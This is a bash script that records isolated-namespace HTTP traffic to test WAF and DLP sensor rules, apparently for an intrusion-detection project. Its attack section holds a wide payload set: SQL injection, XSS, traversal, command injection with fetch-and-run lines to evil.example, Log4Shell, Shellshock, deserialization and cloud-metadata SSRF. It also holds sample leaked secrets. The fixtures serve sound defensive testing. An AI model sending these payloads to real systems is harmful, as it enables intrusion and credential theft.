#!/usr/bin/env bash
# Record REAL HTTP traffic for the Sensors engine (built-in sensors waf-core,
# dlp-pii, dlp-secrets): real curl talking to a python http.server-based
# server (sensors/sensor_server.py, bodies from sensors/content.py).
#
# Same approach as record-real.sh / record-l7.sh: two private network
# namespaces joined by a veth pair (client 10.78.0.1, server 10.78.0.2, fixed
# MACs), offloads OFF so every frame is <= MTU with real checksums, tcpdump on
# the client end. No packet can leave the machine. Run as root, by hand; the
# committed outputs are what the tests use:
#
#   real/sensors-attacks.pcap  one transaction per waf-core attack case: in the
#                              URL (plain, %-encoded once, %-encoded twice), in
#                              headers (User-Agent, Referer, X-Api-Version,
#                              Cookie, X-Forwarded-For), in form and JSON bodies,
#                              in chunked request bodies whose attack string is
#                              split across two TCP segments, in gzip request
#                              bodies (Content-Encoding: gzip)
#   real/sensors-leaks.pcap    responses leaking card numbers of every network,
#                              SSNs, an IBAN, an e-mail dump, AWS/GCP/GitHub/
#                              Slack/Stripe secrets, private keys, JWTs: plain,
#                              chunked (value split across segments), gzip,
#                              gzip+chunked; plus secrets/PII in request URLs
#                              and a request body
#   real/sensors-benign.pcap   ordinary browsing / API traffic that must NOT
#                              alert (prose with select/union/order by, 16-digit
#                              order numbers failing Luhn, UUIDs, base64 images,
#                              login form, JS/CSS, gzip and chunked)
#
# and for each real/sensors-NAME.expected: one line per transaction, in the
# order the script issued them:  <CASE-ID> <sid>[,<sid>...]  or  <CASE-ID> -
# Every request path starts with /case/<CASE-ID>/ (a01.., l01.., b01..), so a
# test can tie each alert to its case. The sids are the built-in rule ids of
# Sources/Sensors/BuiltIn/BuiltInSensors+{WAF,PII,Secrets}.swift.
#
# Needs (Debian 12): curl tcpdump tshark ethtool iproute2 gzip python3.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=$HERE/real
SEN=$HERE/sensors
CNS=ssn-client SNS=ssn-server
CIF=ssn-c0 SIF=ssn-s0        # veth ends: client side / server side
PY=/usr/bin/python3          # Debian python, independent of any pyenv on PATH
TO=5                         # seconds: timeout for every client
S=http://10.78.0.2           # the server, port 80

export PYTHONDONTWRITEBYTECODE=1   # no __pycache__ in sensors/
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY no_proxy NO_PROXY

in_c() { ip netns exec "$CNS" "$@"; }
in_s() { ip netns exec "$SNS" "$@"; }

teardown_ns() {
    local ns pid
    for ns in "$CNS" "$SNS"; do
        [[ -e /run/netns/$ns ]] || continue
        for pid in $(ip netns pids "$ns"); do kill "$pid" 2>/dev/null || true; done
        for _ in $(seq 20); do [[ -z $(ip netns pids "$ns") ]] && break; sleep 0.1; done
        for pid in $(ip netns pids "$ns"); do kill -9 "$pid" 2>/dev/null || true; done
        ip netns del "$ns"
    done
}

WORK=""
cleanup() {
    local rc=$?
    teardown_ns
    [[ -n $WORK ]] && rm -rf "$WORK"
    exit $rc
}
trap cleanup EXIT

[[ $EUID -eq 0 ]] || { echo "must run as root" >&2; exit 1; }
missing=()
for t in curl tcpdump ethtool gzip; do command -v "$t" >/dev/null || missing+=("$t"); done
((${#missing[@]} == 0)) || { echo "missing tools: ${missing[*]} (see header)" >&2; exit 1; }
teardown_ns
WORK=$(mktemp -d /tmp/sluice-record-sensors.XXXXXX)
mkdir -p "$OUT"
rm -f "$OUT"/sensors-*.pcap "$OUT"/sensors-*.expected

# ---------------------------------------------------------------- topology
ip netns add "$CNS"
ip netns add "$SNS"
ip link add "$CIF" netns "$CNS" type veth peer name "$SIF" netns "$SNS"
in_c ip link set "$CIF" address 02:78:00:00:00:01
in_s ip link set "$SIF" address 02:78:00:00:00:02
in_c ip addr add 10.78.0.1/24 dev "$CIF"
in_s ip addr add 10.78.0.2/24 dev "$SIF"
for ns in "$CNS" "$SNS"; do ip netns exec "$ns" ip link set lo up; done
in_c ip link set "$CIF" up
in_s ip link set "$SIF" up
in_c ethtool -K "$CIF" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true
in_s ethtool -K "$SIF" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true

ip netns exec "$SNS" "$PY" "$SEN/sensor_server.py" 10.78.0.2 80 >"$WORK/server.log" 2>&1 &
for _ in $(seq 100); do
    in_s ss -Hlnt "sport = :80" | grep -q . && break
    sleep 0.1
done
in_s ss -Hlnt "sport = :80" | grep -q . || { echo "server did not start" >&2; cat "$WORK/server.log" >&2; exit 1; }

# ---------------------------------------------------------------- capture
CAP_PID="" CAP_NAME="" EXP=""
start_capture() {   # name (sensors-NAME)   header-line...
    CAP_NAME=$1 EXP=$WORK/$1.expected
    shift
    {
        printf '# %s.expected -- written by record-sensors.sh; one line per HTTP transaction,\n' "$CAP_NAME"
        printf '# in the order the script issued them:\n'
        printf '#   <CASE-ID> <sid>[,<sid>...]   the built-in sensor rules that must alert on it\n'
        printf '#   <CASE-ID> -                  no built-in rule may alert on it\n'
        printf '# CASE-ID is in the request path (/case/<CASE-ID>/...). The listed set is exact:\n'
        printf '# any other waf-core / dlp-pii / dlp-secrets alert on the transaction is a false\n'
        printf '# positive. sids: waf-core 1000201-1000399, dlp-pii 1000001-1000099,\n'
        printf '# dlp-secrets 1000101-1000199 (Sources/Sensors/BuiltIn/).\n'
        for l in "$@"; do printf '# %s\n' "$l"; done
    } >"$EXP"
    : >"$WORK/tcpdump.err"
    sleep 0.3
    ip netns exec "$CNS" tcpdump -i "$CIF" -n -s 0 -U -Z root -w "$WORK/$CAP_NAME.pcap" \
        2>"$WORK/tcpdump.err" &
    CAP_PID=$!
    for _ in $(seq 50); do
        grep -q "listening on" "$WORK/tcpdump.err" && return 0
        sleep 0.1
    done
    echo "tcpdump did not start" >&2; cat "$WORK/tcpdump.err" >&2; exit 1
}
stop_capture() {
    sleep 1
    kill -INT "$CAP_PID"
    wait "$CAP_PID" || true
    echo "$CAP_NAME: $(grep -E 'captured' "$WORK/tcpdump.err" || true)" >&2
    cp "$WORK/$CAP_NAME.pcap" "$OUT/$CAP_NAME.pcap"
    cp "$EXP" "$OUT/$CAP_NAME.expected"
}

C=(curl -s -S --max-time "$TO" -o /dev/null -w '%{http_code}' --path-as-is -g)

# req ID SIDS PATH [CURL-ARGS...]: one curl run (= one connection, one
# transaction) for $S$PATH; PATH must start with /case/ID/. Fails the
# recording unless the server answered 200.
req() {
    local id=$1 sids=$2 path=$3 code
    shift 3
    [[ $path == /case/$id/* ]] || { echo "case $id: path $path lacks /case/$id/" >&2; exit 1; }
    code=$(in_c "${C[@]}" "$@" "$S$path") || code="curl-rc-$?"
    [[ $code == 200 ]] || { echo "case $id: HTTP $code" >&2; exit 1; }
    printf '%s %s\n' "$id" "$sids" >>"$EXP"
}

# slow ID SIDS PATH CTYPE PART1 PART2: POST a chunked request body from a slow
# stdin producer: curl -T - reads stdin as it comes and sends each read as its
# own chunk, so PART1 and PART2 travel in different TCP segments (0.5 s apart).
slow() {
    local id=$1 sids=$2 path=$3 ctype=$4 p1=$5 p2=$6 code
    code=$( { printf '%s' "$p1"; sleep 0.5; printf '%s' "$p2"; } |
            in_c "${C[@]}" -X POST -T - -H 'Transfer-Encoding: chunked' \
                 -H "Content-Type: $ctype" -H 'Expect:' "$S$path") || code="curl-rc-$?"
    [[ $code == 200 ]] || { echo "case $id: HTTP $code" >&2; exit 1; }
    printf '%s %s\n' "$id" "$sids" >>"$EXP"
}

FORM=(-H 'Content-Type: application/x-www-form-urlencoded')
JSON=(-H 'Content-Type: application/json')
UA_OK='Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0'
gz() { printf '%s' "$2" | gzip -n -c >"$WORK/$1.gz"; }   # NAME TEXT

# =================================================================== attacks
start_capture sensors-attacks \
    "a01-a39: attack in the URL; a40-a49: in a header; a50-a59: form body;" \
    "a60-a69: JSON (or raw) body; a70-a72: chunked body split across two TCP" \
    "segments; a75-a77: gzip request body (Content-Encoding: gzip)."
# ---- URL: SQL injection
req a01 1000201 "/case/a01/item?id=1+union+select+null,version()--"
req a02 1000201 "/case/a02/item?id=1%20UNION%20ALL%20SELECT%20username%2Cpassword%20FROM%20users"
req a03 1000204 "/case/a03/login?user=admin%2527%2520or%2520%25271%2527%253D%25271"
req a04 1000204 "/case/a04/login?user=admin'+or+'a'='a"
req a05 1000209 "/case/a05/item?id=1;drop+table+users--"
req a06 1000201,1000212 "/case/a06/item?id=1/**/union/**/select/**/1,2,3"
req a07 1000215 "/case/a07/item?id=1'+and+sleep(5)%23"
req a08 1000201,1000218 "/case/a08/item?id=1+union+select+table_name+from+information_schema.tables"
req a09 1000201,1000221 "/case/a09/item?id=1+union+select+'x'+into+outfile+'/var/www/s.php'"
req a10 1000223 "/case/a10/login?user=admin'--"
# ---- URL: XSS
req a11 1000240 "/case/a11/search?q=<script>alert(1)</script>"
req a12 1000246,1000252 "/case/a12/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E"
req a13 1000246 "/case/a13/search?q=%253Csvg%252Fonload%253Dalert(1)%253E"
req a14 1000243 "/case/a14/redirect?next=javascript:alert(1)"
req a15 1000249 "/case/a15/search?q=<iframe+src=//evil.example/>"
req a16 1000255 "/case/a16/search?q=%27%3Balert(1)%2F%2F"
# ---- URL: path traversal
req a17 1000270,1000273 "/case/a17/static/../../../../etc/passwd"
req a18 1000270,1000275 "/case/a18/download?file=..%2F..%2F..%2Fwindows%2Fwin.ini"
req a19 1000270,1000273 "/case/a19/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow"
req a20 1000270,1000273,1000277 "/case/a20/download?file=../../etc/passwd%00.png"
req a21 1000270,1000275 "/case/a21/download?file=..%5C..%5C..%5Cboot.ini"
# ---- URL: OS command injection
req a22 1000290 "/case/a22/ping?host=127.0.0.1;id"
req a23 1000273,1000290 "/case/a23/ping?host=127.0.0.1%7Ccat%20/etc/passwd"
req a24 1000290 "/case/a24/ping?host=%2524(curl%2520http://evil.example/x.sh%257Cbash)"
req a25 1000293 "/case/a25/run?cmd=bash+-c+'id'"
# ---- URL: Log4Shell, Shellshock, deserialization, SSRF
req a26 1000310 '/case/a26/search?q=${jndi:ldap://evil.example:1389/a}'
req a27 1000311 "/case/a27/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"
req a28 1000290,1000321 "/case/a28/cgi-bin/status.cgi?()+{+:;+};+/bin/id"
req a29 1000325 "/case/a29/profile?data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A4%3A%22role%22%3Bs%3A5%3A%22admin%22%3B%7D"
req a30 1000330 "/case/a30/view?state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"
req a31 1000333 "/case/a31/eval?expr=T(java.lang.Runtime).getRuntime().exec(%27id%27)"
req a32 1000340 "/case/a32/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"
req a33 1000340 "/case/a33/fetch?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F"
req a34 1000340 "/case/a34/fetch?url=http://[fd00:ec2::254]/latest/meta-data/"
req a35 1000340 "/case/a35/fetch?url=http://100.100.100.200/latest/meta-data/"
# ---- headers
req a40 1000202 /case/a40/ -A "Mozilla/5.0' union select null,@@version-- -"
req a41 1000241 /case/a41/ -A "$UA_OK" -e 'http://shop.example/search?q=%3Cscript%3Ealert(1)%3C/script%3E'
req a42 1000312 /case/a42/ -A "$UA_OK" -H 'X-Api-Version: ${jndi:ldap://evil.example:1389/Exploit}'
req a43 1000313 /case/a43/ -A '${${lower:j}${lower:n}di:rmi://evil.example/x}'
req a44 1000205 /case/a44/ -A "$UA_OK" -b "session=4f2a9c; uid=1' or '1'='1"
req a45 1000326 /case/a45/ -A "$UA_OK" -b 'prefs=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D'
req a46 1000291,1000294,1000320 /case/a46/cgi-bin/status.cgi -A "() { :; }; /bin/bash -c 'cat /etc/passwd'"
req a47 1000271 /case/a47/ -A "$UA_OK" -e 'http://shop.example/download?file=..%2F..%2F..%2Fetc%2Fpasswd'
req a48 1000331 /case/a48/ -A "$UA_OK" -b 'rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ'
req a49 1000291 /case/a49/ -A "$UA_OK" -H 'X-Forwarded-For: 127.0.0.1;wget http://evil.example/x.sh'
# ---- form bodies (application/x-www-form-urlencoded)
req a50 1000206 /case/a50/login -d "user=admin%27+or+%271%27%3D%271&pass=x"
req a51 1000242 /case/a51/comment --data-urlencode 'comment=<script>alert(document.cookie)</script>'
req a52 1000292 /case/a52/ping --data-urlencode 'host=8.8.8.8; cat /etc/passwd'
req a53 1000272 /case/a53/download --data-urlencode 'file=../../../../etc/shadow'
req a54 1000341 /case/a54/hooks --data-urlencode 'webhook=http://169.254.169.254/latest/meta-data/'
req a55 1000314 /case/a55/profile --data-urlencode 'name=${jndi:ldap://evil.example/a}'
req a56 1000211 /case/a56/item --data-urlencode 'id=1; DROP TABLE users--'
req a57 1000327 /case/a57/profile --data-urlencode 'data=O:8:"stdClass":1:{s:4:"role";s:5:"admin";}'
# ---- JSON / raw bodies
req a60 1000206 /case/a60/api/login "${JSON[@]}" -d '{"username":"admin'"'"' OR 1=1-- ","password":"x"}'
req a61 1000248 /case/a61/api/profile "${JSON[@]}" -d '{"bio":"<img src=x onerror=alert(1)>"}'
req a62 1000315 /case/a62/api/profile "${JSON[@]}" -d '{"user":"${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}"}'
req a63 1000272 /case/a63/api/files "${JSON[@]}" -d '{"path":"../../../../etc/passwd"}'
req a64 1000292 /case/a64/api/diag "${JSON[@]}" -d '{"cmd":"ping -c 1 8.8.8.8 && wget http://evil.example/x.sh"}'
printf '\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x00x' \
    >"$WORK/java.bin"
req a65 1000332 /case/a65/invoker -H 'Content-Type: application/x-java-serialized-object' --data-binary @"$WORK/java.bin"
req a66 1000335 /case/a66/api/eval "${JSON[@]}" -d '{"expr":"T(java.lang.Runtime).getRuntime().exec('"'"'id'"'"')"}'
req a67 1000341 /case/a67/api/fetch "${JSON[@]}" -d '{"url":"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}'
req a68 1000217 /case/a68/api/item "${JSON[@]}" -d '{"id":"1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)"}'
# ---- chunked request bodies, attack string split across two TCP segments
slow a70 1000314 /case/a70/api/profile application/json '{"user":"${jndi:ld' 'ap://evil.example/a}"}'
slow a71 1000203 /case/a71/search application/x-www-form-urlencoded 'q=1%27+union+sel' 'ect+null%2Cnull--'
slow a72 1000242 /case/a72/api/comment application/json '{"comment":"<script>ale' 'rt(1)</script>"}'
# ---- gzip request bodies
gz a75 '{"comment":"<script>alert(1)</script>","q":"1'"'"' or '"'"'1'"'"'='"'"'1"}'
req a75 1000206,1000242 /case/a75/api/comment "${JSON[@]}" -H 'Content-Encoding: gzip' --data-binary @"$WORK/a75.gz"
gz a76 'host=x%3Bcat+%2Fetc%2Fpasswd'
req a76 1000292 /case/a76/ping "${FORM[@]}" -H 'Content-Encoding: gzip' --data-binary @"$WORK/a76.gz"
gz a77 '{"x":"${jndi:rmi://evil.example/a}"}'
req a77 1000314 /case/a77/api/x "${JSON[@]}" -H 'Content-Encoding: gzip' --data-binary @"$WORK/a77.gz"
stop_capture

# =================================================================== leaks
start_capture sensors-leaks \
    "l01-l27: the response body leaks (bodies: sensors/content.py LEAKS); l08 and" \
    "l25 are chunked with the value split across two TCP segments, l09 and l26 gzip," \
    "l27 gzip+chunked. l30-l36: the request URL leaks; l37: the request body leaks."
req l01 1000001 /case/l01/api/orders/1
req l02 1000002 /case/l02/api/orders/2
req l03 1000003 /case/l03/api/orders/3
req l04 1000004 /case/l04/card.txt
req l05 1000005 /case/l05/api/orders/5
req l06 1000006 /case/l06/api/orders/6
req l07 1000007 /case/l07/api/orders/7
req l08 1000001 /case/l08/api/orders/8
req l09 1000001,1000002,1000003,1000004,1000005,1000006,1000007 /case/l09/export.csv --compressed
req l10 1000020 /case/l10/hr/export.csv
req l11 1000021 /case/l11/hr/employee/7
req l12 1000030 /case/l12/api/payee/3
req l13 1000040 /case/l13/admin/mailing-list.txt
req l14 1000101,1000103 /case/l14/latest/meta-data/iam/security-credentials/web
req l15 1000111 /case/l15/static/config.js
req l16 1000112,1000144 /case/l16/backup/service-account.json
req l17 1000121 /case/l17/config/app.env
req l18 1000122,1000123,1000124,1000125,1000126 /case/l18/api/tokens
req l19 1000141 /case/l19/backup/server.key
req l20 1000143 /case/l20/keys/id_ed25519
req l21 1000142 /case/l21/backup/ec.key
req l22 1000151 /case/l22/oauth/token
req l23 1000131,1000132 /case/l23/config/secrets.txt
req l24 1000162 /case/l24/config/database.env
req l25 1000101,1000141 /case/l25/backup/credentials
req l26 1000101,1000103,1000121 /case/l26/backup/env.gz --compressed
req l27 1000020,1000151 /case/l27/api/session --compressed
req l30 1000010 "/case/l30/pay?card=4111111111111111&exp=1230"
req l31 1000022 "/case/l31/verify?ssn=078-05-1120"
req l32 1000163 "/case/l32/login?user=bob&password=hunter2"
req l33 1000161 "/case/l33/fetch?src=ftp://admin:s3cret@files.example.com/report.csv"
req l34 1000152 "/case/l34/callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
req l35 1000102 "/case/l35/upload?AWSAccessKeyId=AKIAIOSFODNN7EXAMPLE&Expires=1700000000&Signature=abc"
req l36 1000127 "/case/l36/clone?token=ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
req l37 1000003 /case/l37/api/checkout "${JSON[@]}" -d '{"card":"3714 496353 98431","exp":"11/29","name":"Test User"}'
stop_capture

# =================================================================== benign
start_capture sensors-benign \
    "Ordinary browsing and API traffic (bodies: sensors/content.py BENIGN)."
req b01 - /case/b01/articles/union-representative.html -A "$UA_OK" -e "$S/case/b01/" \
    -H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' \
    -H 'Accept-Language: en-US,en;q=0.5' -b 'session=7f3c2a91e0; theme=dark; consent=yes'
req b02 - "/case/b02/api/orders?page=1&sort=date&order=desc&fields=id,order_no,total" -A "$UA_OK" \
    -H 'Accept: application/json'
req b03 - "/case/b03/search?q=how+to+select+a+union+representative" -A "$UA_OK"
req b04 - /case/b04/gallery.html -A "$UA_OK"
req b05 - /case/b05/login -A "$UA_OK" -e "$S/case/b01/articles/union-representative.html" \
    -d 'username=alice&password=correct+horse+battery+staple&remember=on'
req b06 - /case/b06/feedback -A "$UA_OK" \
    --data-urlencode "name=Jane O'Brien" \
    --data-urlencode "comment=I'd like to order 2 or 3 items; select the blue one, or the union-made one. Drop me a line!"
req b07 - /case/b07/static/site.js -A "$UA_OK"
req b08 - /case/b08/release-notes.html -A "$UA_OK" --compressed
req b09 - /case/b09/api/users -A "$UA_OK"
req b10 - "/case/b10/api/events?from=2024-01-01&to=2024-01-31&tz=Europe%2FBerlin&id=6f1c2a7e-3b44-4d0e-9a51-0c2f8d1e7b30" \
    -A "$UA_OK" -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlMDAx'
req b11 - /case/b11/api/orders "${JSON[@]}" -A "$UA_OK" \
    -d '{"order_no":"1000200030004001","items":[{"sku":"UNION-SELECT-01","qty":2}],"phone":"+1 555 010 4477","when":"2024-03-15T10:20:00Z","note":"Leave at the door; ring twice."}'
req b12 - /case/b12/static/site.css -A "$UA_OK"
req b13 - /case/b13/api/orders.json -A "$UA_OK" --compressed
req b14 - "/case/b14/app;jsessionid=0A1B2C3D4E5F?lang=en&ref=newsletter" -A "$UA_OK"
req b15 - "/case/b15/docs/../guide/index.html?section=select-and-order" -A "$UA_OK"
slow b16 - /case/b16/api/notes application/json '{"title":"Meeting","body":"Select a union rep' 'resentative; order by seniority."}'
gz b17 '{"query":"select a union representative","page":2,"sort":"order by date"}'
req b17 - /case/b17/api/search "${JSON[@]}" -A "$UA_OK" -H 'Content-Encoding: gzip' --data-binary @"$WORK/b17.gz"
stop_capture

echo "done: $(ls "$OUT"/sensors-*)" >&2
